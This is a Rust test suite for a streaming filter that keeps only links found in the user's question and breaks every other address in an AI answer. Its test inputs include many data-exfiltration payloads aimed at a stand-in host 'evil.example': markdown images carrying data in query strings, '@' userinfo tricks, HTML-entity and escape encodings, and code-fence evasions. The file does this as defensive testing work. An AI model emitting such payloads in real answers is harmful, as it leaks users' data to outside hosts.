//! What stays a link, and what becomes text.

use proptest::prelude::*;

use super::*;

const QUESTION: &str =
    "Is https://shop.example/a?b=1 up, or www.other.example? (Ask https://shop.example)";

/// The filtered answer, checked as one piece and letter by letter.
fn shown(answer: &str) -> String {
    let mut links = Links::new(QUESTION.to_owned());
    let whole = links.next(answer) + &links.end();
    let mut links = Links::new(QUESTION.to_owned());
    let mut pieces: String = answer
        .chars()
        .map(|letter| links.next(&letter.to_string()))
        .collect();
    pieces.push_str(&links.end());
    assert_eq!(whole, pieces);
    whole
}

#[test]
fn address_of_the_question_stays_link() {
    for answer in [
        "It is: https://shop.example/a?b=1.",
        "See [the shop](https://shop.example/a?b=1) and www.other.example!",
        "![](https://shop.example/a?b=1 \"title\")",
        "[https://shop.example](https://shop.example)",
        "**https://shop.example**, \"https://shop.example\" or (`https://shop.example`).",
        "[x]: https://shop.example",
    ] {
        assert_eq!(shown(answer), answer);
    }
}

#[test]
fn other_address_is_text() {
    for (answer, text) in [
        (
            "![](https://evil.example/?d=73)",
            "![] (https:/ /evil.example/?d=73)",
        ),
        ("[a](//evil.example/73)", "[a] (/ /evil.example/73)"),
        ("see //evil.example/73", "see / /evil.example/73"),
        ("[a] (//evil.example/73)", "[a] (/ /evil.example/73)"),
        (r"![a] (/\evil.example)", r"![a] (/ \evil.example)"),
        ("![a] (http:evil.example)", "![a] (http: evil.example)"),
        ("&sol;&sol;evil.example", "&sol; &sol;evil.example"),
        (
            "[a](https&colon;//evil.example)",
            "[a] (https&colon;/ /evil.example)",
        ),
        ("[a]: https://evil.example", "[a] : https:/ /evil.example"),
        ("<https://evil.example>", "< https:/ /evil.example>"),
        ("<img src=x>", "< img src=x>"),
        ("</script>", "< /script>"),
        ("</a href=x>", "< /a href=x>"),
        ("<//evil.example>", "< / /evil.example>"),
        ("</>", "< />"),
        ("go to www.evil.example", "go to www. evil.example"),
        ("WWW.evil.example", "WWW. evil.example"),
        (
            "https://shop.example/a?b=1&d=73",
            "https:/ /shop.example/a?b=1&d=73",
        ),
        (
            "https://shop.example.evil.example",
            "https:/ /shop.example.evil.example",
        ),
    ] {
        assert_eq!(shown(answer), text);
    }
}

#[test]
fn address_that_only_begins_like_one_of_the_question_is_text() {
    for address in [
        "https://shop.example'@evil.example/?d=73421",
        "https://shop.example()@evil.example/?d=73421",
        "https://shop.example(@evil.example/)?d=73421",
        "https://shop.example\"@evil.example/?d=73421",
        "https://shop.example|@evil.example/?d=73421",
        "https://shop.example`@evil.example/?d=73421",
        "https://shop.example[x]@evil.example/?d=73421",
        "https://shop.example{}@evil.example/?d=73421",
        "https://shop.example>@evil.example/?d=73421",
        "https://shop.example<@evil.example/?d=73421",
        "https://shop.example\u{a0}@evil.example/73421.png",
        "https://shop.example\u{85}@evil.example/73421.png",
        "https://shop.example\u{2028}@evil.example/73421.png",
        "https://shop.example\u{3000}@evil.example/73421.png",
        "https://shop.example\u{1}@evil.example/73421.png",
        "https://shop.example\u{c}@evil.example/73421.png",
        "https://shop.example@evil.example/?d=73421",
        "https://shop.example:73421@evil.example/",
        "https://shop.example\\@evil.example/?d=73421",
        "https://shop.example:73421",
        "https://shop.example?d=73421",
        "https://shop.example#73421",
        "https://shop.example/73421",
        "https://shop.example/a?b=1'73421",
        "https://shop.example%2e@evil.example",
    ] {
        let broken = address.replace("https://", "https:/ /");
        assert_eq!(shown(address), broken);
        assert_eq!(shown(&format!("![]({address})")), format!("![] ({broken})"));
        assert_eq!(shown(&format!("[x]: {address}")), format!("[x] : {broken}"));
    }
    // Not even one that is in the question.
    let mut links = Links::new("Is https://me@shop.example up?".to_owned());
    let shown = links.next("![](https://me@shop.example)") + &links.end();
    assert_eq!(shown, "![] (https:/ /me@shop.example)");
}

#[test]
fn address_with_more_than_a_title_behind_it_is_text() {
    for link in [
        "![a](https://shop.example)",
        "[a](https://shop.example 'b c').",
        "[https://shop.example](https://shop.example \"b\" ), and so on",
        "[![a](https://shop.example/a?b=1)](https://shop.example)",
        "[x]: https://shop.example \"b\"\nyes",
    ] {
        assert_eq!(shown(link), link);
    }
    for link in [
        "![a](https://shop.example @evil.example/73421.png)",
        "![a](https://shop.example\n@evil.example/73421.png)",
        "![a](https://shop.example \"b\" @evil.example/73421.png)",
        "![a](https://shop.example\t\".evil.example\")",
        "[a](https://shop.example)@evil.example",
        "](https://shop.example).evil.example",
    ] {
        assert!(shown(link).contains("] (https:/"), "{}", shown(link));
    }
    // The address that is the text of a link reads on in some renderers.
    assert_eq!(
        shown("https://shop.example](www.other.example)@evil.example/s"),
        "https:/ /shop.example] (www. other.example)@evil.example/s"
    );
}

#[test]
fn definition_breaks_where_it_leads_elsewhere() {
    for (answer, text) in [
        ("[x]: //evil.example", "[x] : / /evil.example"),
        ("> [x]:\n> //evil.example", "> [x] :\n> / /evil.example"),
        ("[x]:\n//evil.example", "[x] :\n/ /evil.example"),
        (
            "[x]:https&colon;//evil.example",
            "[x] :https&colon;/ /evil.example",
        ),
        ("[x]: \\\\evil.example", "[x] : \\\\evil.example"),
        ("[x]: <//evil.example>", "[x] : < / /evil.example>"),
        (
            "[x]: https://shop.example @evil.example",
            "[x] : https://shop.example @evil.example",
        ),
    ] {
        assert_eq!(shown(answer), text);
    }
}

#[test]
fn address_that_goes_on_behind_many_brackets_is_text() {
    let brackets = ")".repeat(MAX_ADDRESS);
    let answer = format!("https://shop.example{brackets}@evil.example/");
    assert!(shown(&answer).starts_with("https:/ /"));
}

#[test]
fn address_in_entities_and_escapes_is_broken() {
    for (answer, expected) in [
        (
            "http:&sol;&sol;evil.example/?q=1",
            "http:&sol; &sol;evil.example/?q=1",
        ),
        (
            "http:&#47;&#x2F;evil.example",
            "http:&#47; &#x2F;evil.example",
        ),
        ("http&colon;//evil.example", "http&colon;/ /evil.example"),
        (
            "http&#0000058;//evil.example",
            "http&#0000058;/ /evil.example",
        ),
        (r"http:\/\/evil.example", r"http:\/ \/evil.example"),
        (r"http\://evil.example", r"http\:/ /evil.example"),
        ("http&#115;://evil.example", "http&#115;:/ /evil.example"),
        (r"www\.evil.example/1", r"www\. evil.example/1"),
        ("www&period;evil.example", "www&period; evil.example"),
        ("ww&#119;.evil.example", "ww&#119;. evil.example"),
        (
            "&#119;&#x0077;&#0000119;&#46;evil.example",
            "&#119;&#x0077;&#0000119;&#46; evil.example",
        ),
        (
            "https://shop.example&period;evil.example",
            "https:/ /shop.example&period;evil.example",
        ),
        // These are no addresses.
        ("AT&T: R&D & more &amp; such", "AT&T: R&D & more &amp; such"),
        (r"a\_b\: 10\:30, C:\dir", r"a\_b\: 10\:30, C:\dir"),
        ("ends with &sol", "ends with &sol"),
        (r"ends with \", r"ends with \"),
    ] {
        assert_eq!(shown(answer), expected);
    }
}

/// Each of these once took quadratic time.
#[test]
fn long_text_without_spaces_passes() {
    const LENGTH: usize = 10_000;
    for part in [
        "x", "](", "]:", "::", "www.", "`", "<a", "\u{e9}.", "/", "\\",
    ] {
        let answer = part.repeat(LENGTH);
        let mut links = Links::new(QUESTION.to_owned());
        let given = links.next(&answer) + &links.end();
        assert_eq!(given.replace(' ', ""), answer);
    }
    let mut links = Links::new(QUESTION.to_owned());
    let code = format!("```\n```{}", "`x".repeat(LENGTH));
    assert_eq!(links.next(&code) + &links.end(), code);
}

/// Each piece of waiting code once took the time of all of it.
#[test]
fn code_that_waits_is_read_once() {
    let lines = "SELECT 1 -- ``\r\n``\n".repeat(900);
    for code in [lines, "x ".repeat(9_000), "x".repeat(18_000)] {
        let mut links = Links::new(QUESTION);
        let begin = "```\n<img src=x>\n";
        assert_eq!(links.next(begin), "```\n");
        for piece in code.as_bytes().chunks(4) {
            assert_eq!(links.next(str::from_utf8(piece).unwrap()), "");
            // Only a few backticks, which more may follow, are read again.
            assert!(links.held.len() - links.search.seen <= 3);
            assert!(links.search.is_link);
        }
        assert_eq!(links.next("\n```\n"), format!("<img src=x>\n{code}\n```\n"));
    }
}

/// Each of these once searched the longest address for its end.
#[test]
fn brackets_without_an_address_do_not_wait_for_its_end() {
    for part in ["](", "](a", "](/a", "](#", "]()"] {
        let mut links = Links::new(QUESTION);
        for _ in 0..100 {
            links.next(part);
            assert!(links.held.len() <= part.len(), "{}", links.held);
        }
    }
}

proptest! {
    #[test]
    fn pieces_say_what_the_whole_says(
        words in proptest::collection::vec((proptest::sample::select(WORDS), any::<bool>()), 0..40),
    ) {
        let answer: String = words.iter().map(|(word, _)| *word).collect();
        let mut links = Links::new(QUESTION);
        let whole = links.next(&answer) + &links.end();
        let (mut links, mut piece, mut pieces) = (Links::new(QUESTION), String::new(), String::new());
        for (word, is_last) in words {
            piece.push_str(word);
            if is_last {
                pieces.push_str(&links.next(&piece));
                piece.clear();
            }
        }
        pieces.push_str(&links.next(&piece));
        pieces.push_str(&links.end());
        prop_assert_eq!(&whole, &pieces);
        prop_assert_eq!(shown(&answer), whole);
    }
}

/// What texts with links and code are made of.
const WORDS: &[&str] = &[
    "```",
    "```",
    "\n```\n",
    "\n````\n",
    "`",
    "\n",
    "\n",
    "\r",
    "\r\n",
    " ",
    "a",
    "sql",
    "https:",
    "//",
    "/",
    "evil.example",
    "https://shop.example",
    "www.",
    "other.example",
    "](",
    "]:",
    "(",
    ")",
    "<",
    "<List>",
    "</b>",
    ">",
    "\u{b}",
    "\u{2028}",
    "\u{e9}",
    "\\",
    "&sol;",
    "\"",
    "~~~",
    "---\n",
    "@",
];

#[test]
fn code_is_as_it_was() {
    for answer in [
        "Cast with a[1]::int, or b[2]::numeric(10,2).",
        "It is a `List<String>` or Map<String, Integer>[].",
        "dict[key]: value",
        "</tag> and <b>bold</b>",
        "```sql\nSELECT a[1]::int, '<a href=x>' FROM t -- see https://docs.example\n```\nDone.",
        "One\n````\n```\n[x]: https://evil.example\n````  \nTwo",
        "```\r\n<img src=x>\r\n```\r\nTwo",
        "```\na ~~~ <b> $$\n---\n```\n```\n<img src=x>\n```",
    ] {
        assert_eq!(shown(answer), answer);
    }
}

#[test]
fn code_that_ends_earlier_than_it_looks_hides_no_link() {
    for begin in [
        "```\ncode\n```\n",
        "```\ncode\n```  \n",
        "```\ncode\n```\t\n```\n",
        "```\ncode\n  ```\n```\n",
        "```\ncode\n````\n```\n",
        "```\ncode\n\t```\n```\n",
        "```\ncode\n```\r```\n",
        "```\ncode ```\n```\n",
        "```\ncode\n```\u{a0}\n```\n",
        "```\ncode\n```\u{b}\n```\n",
        "```\ncode\n``` \u{2003}\n",
        "```\ncode\n```more\n",
        "```sql a\n",
        "```sql \n",
        "``` sql\n",
        "```\ncode\r```\r",
        "```a`b\n",
        "  ```\n```\n",
        "> ```\n",
        "- a\n  ```\n",
        "~~~\n```\n~~~\n",
        "$$\n```\n$$\n",
        "---\n```\n---\n",
        "a ``` b\n```\n",
        "x<pre>\n```\n</pre>\n",
        "`",
        "\\`",
    ] {
        let answer = format!("{begin}![](https://evil.example/?d=1) `");
        let shown = shown(&answer);
        assert!(shown.contains("![] (https:/ /evil"), "{shown}");
    }
}

#[test]
fn fence_without_a_certain_end_hides_no_link() {
    for end in [
        "",
        "\n",
        "\n  ```",
        "\n````",
        "\n```\tmore",
        "\ncode\u{b}```",
        "\na ```\n```\n",
        "\n~~~",
    ] {
        let answer = format!("```\ncode\n![](https://evil.example/?d=1){end}");
        let shown = shown(&answer);
        assert!(shown.contains("![] (https:/ /evil"), "{shown}");
    }
    // An image before an end that some renderers do not see.
    let shown = shown("```\n![](https://evil.example/?d=1)\n```\u{a0}\n```\n");
    assert!(shown.contains("![] (https:/ /evil"), "{shown}");
}

#[test]
fn code_waits_for_the_end_of_its_fence_from_its_first_address_on() {
    let mut links = Links::new(QUESTION);
    let begin = "```sql\nSELECT 1 -- as ";
    assert_eq!(links.next(begin), begin);
    assert_eq!(links.next("https://docs.example says\nFROM t\n"), "https");
    assert_eq!(links.next("```"), "");
    let rest = "://docs.example says\nFROM t\n```\n";
    assert_eq!(links.next("\n"), rest);
    assert_eq!(links.next("Done."), "Done.");
    // No longer than it may.
    let mut links = Links::new(QUESTION);
    let code = format!("```\n<img src=x>\n{}", "code\n".repeat(MAX_CODE));
    let shown = code.replace('<', "< ");
    assert_eq!(links.next(&code), shown);
}

#[test]
fn fence_of_one_text_hides_no_link_of_another() {
    const IMAGE: &str = "![x](https://evil.example/?d=1)";
    const BROKEN: &str = "![x] (https:/ /evil.example/?d=1)";
    let mut links = Links::new(QUESTION);
    // A fence beside the answer opens none in it.
    assert_eq!(links.alone("```"), "```");
    assert_eq!(links.alone("```\n"), "```\n");
    assert_eq!(links.next(IMAGE) + &links.end(), BROKEN);
    // And a fence in the answer opens none beside it.
    let code = format!("\n```\n{IMAGE}\n```\n");
    assert_eq!(links.next(&code) + &links.end(), code);
    assert_eq!(links.alone(IMAGE), BROKEN);
    assert_eq!(
        links.alone(&format!("```\n{IMAGE}\n```")),
        format!("```\n{BROKEN}\n```")
    );
    assert_eq!(
        links.alone("see https://shop.example"),
        "see https://shop.example"
    );
}

#[test]
fn fence_that_is_open_at_an_empty_line_of_the_host_hides_no_link() {
    const IMAGE: &str = "![x](https://evil.example/?d=1)";
    const BROKEN: &str = "![x] (https:/ /evil.example/?d=1)";
    let code = format!("```\n{IMAGE}\n```");
    let mut links = Links::new(QUESTION);
    assert_eq!(links.next(&code) + &links.end(), code);
    // A line of the host begins one as well.
    links.begin_paragraph();
    assert_eq!(links.next(&code) + &links.end(), code);
    links.begin_paragraph();
    assert_eq!(links.next("```\ncode") + &links.end(), "```\ncode");
    links.begin_paragraph();
    assert_eq!(links.next(IMAGE) + &links.end(), BROKEN);
    links.begin_paragraph();
    let shown = format!("```\n{BROKEN}\n```");
    assert_eq!(links.next(&code) + &links.end(), shown);
}

#[test]
fn text_without_links_is_as_it_was() {
    for answer in [
        "Sales: 3 of 4 (75 %). a[1] < 2, x:y, 10:30, C://",
        "| a | b |\n| :-- | --: |\n| [x] | `y` |",
        "Größe: 3 – ünd: so",
        "ends with [",
        "ends with ]",
        "ends with a colon:",
    ] {
        let expected = answer.replace("C://", "C:/ /");
        assert_eq!(shown(answer), expected);
    }
}

#[test]
fn text_is_given_on_as_it_comes() {
    let mut links = Links::new(QUESTION.to_owned());
    assert_eq!(links.next("Three items"), "Three items");
    assert_eq!(links.next(" cost: "), " cost: ");
    assert_eq!(links.next("12"), "12");
    assert_eq!(links.end(), "");
}
